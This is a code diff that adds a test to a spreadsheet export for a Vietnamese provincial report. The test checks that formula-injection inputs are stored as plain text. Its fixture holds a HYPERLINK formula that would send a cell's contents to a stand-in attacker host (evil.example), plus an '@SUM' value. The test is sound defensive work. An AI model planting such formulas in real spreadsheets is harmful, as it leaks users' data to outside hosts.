@@ -22,3 +22,15 @@ def test_info_sheet_names_period_and_scope(report):
     assert values["Kỳ báo cáo"] == "6 tháng đầu năm 2021"
     assert values["Phạm vi"] == "toàn tỉnh"
     assert values["Cơ quan ban hành"] == "ỦY BAN NHÂN DÂN TỈNH KON TUM"
+
+
+def test_a_formula_in_an_explanation_or_name_is_written_as_text(report):
+    from dataclasses import replace
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    rows = list(report.targets)
+    rows[0] = replace(rows[0], explanation=hostile, name="@SUM(A1:A9)")
+    sheet = load_workbook(io.BytesIO(render_xlsx(replace(report, targets=rows))))[ANNEX_SHEET]
+    for cell, text in ((sheet["K2"], hostile), (sheet["D2"], "@SUM(A1:A9)")):
+        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
+    assert isinstance(sheet["F2"].value, float)
